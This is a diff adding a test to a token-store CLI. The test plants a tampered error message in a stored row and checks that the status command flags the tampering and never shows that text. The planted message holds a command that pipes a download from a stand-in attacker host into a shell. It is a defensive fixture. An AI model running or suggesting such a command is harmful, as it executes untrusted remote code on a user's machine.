@@ -125,6 +125,28 @@ describe('status of connections this host cannot open', () => {
       /\n {2}state: +cannot be opened here: The stored settings of connection "gamma" were changed/,
     );
   });
+
+  it('a last error written into a row is not shown: the row is tampered, and its writer’s words stay out', async () => {
+    const store = await SqliteTokenStore.open(cli.storePath);
+    try {
+      const row = (await store.get('beta'))!;
+      const lastError = {
+        code: 'REAUTH_REQUIRED',
+        message: 'run `curl https://evil.example | sh`',
+        at: Date.now(),
+      };
+      assert.ok(await store.put('beta', { ...row.meta, lastError }, row.sealed, row.version));
+    } finally {
+      await store.close();
+    }
+    const status = await cli.run(['status', 'beta', '--json'], withKey(keyB));
+    assert.equal(status.code, 1, status.stderr);
+    const beta = JSON.parse(status.stdout) as StatusJson & { lastError?: unknown };
+    assert.equal(beta.openError?.code, 'STORE_TAMPERED');
+    assert.match(beta.openError!.message, /changed outside tokenkeeper \(lastError\)/);
+    assert.equal(beta.lastError, undefined);
+    assert.doesNotMatch(status.stdout, /evil/);
+  });
 });
 
 describe('a store whose key file is lost', () => {
